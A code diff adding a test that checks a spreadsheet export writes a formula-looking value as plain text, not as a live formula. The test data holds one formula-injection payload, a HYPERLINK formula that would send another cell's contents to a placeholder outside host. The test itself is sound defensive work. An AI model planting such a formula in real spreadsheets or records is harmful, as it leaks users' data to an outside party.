@@ -160,3 +160,16 @@ def test_an_unmasked_export_of_people_imports_back_unchanged(street, ledger_peop
     result = import_workbook(kind="people", upload=export.file, acting_user=admin)
     assert result.ok, result.errors
     assert (result.added, result.updated, result.unchanged) == (0, 0, 3)
+
+
+def test_a_text_that_looks_like_a_formula_is_exported_as_text(street, ledger_people):
+    import zipfile
+
+    formula = '=HYPERLINK("http://example.invalid/?"&F2,"地图")'
+    make_building(street.grids["e1"], "1号楼", property_manager=formula)
+    export = export_workbook(kind="buildings", acting_user=ledger_people["admin"])
+    content = export.file.read()
+    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet  # no cell of the file is a formula
+    export.file.seek(0)
+    assert formula in _text(_rows(export))
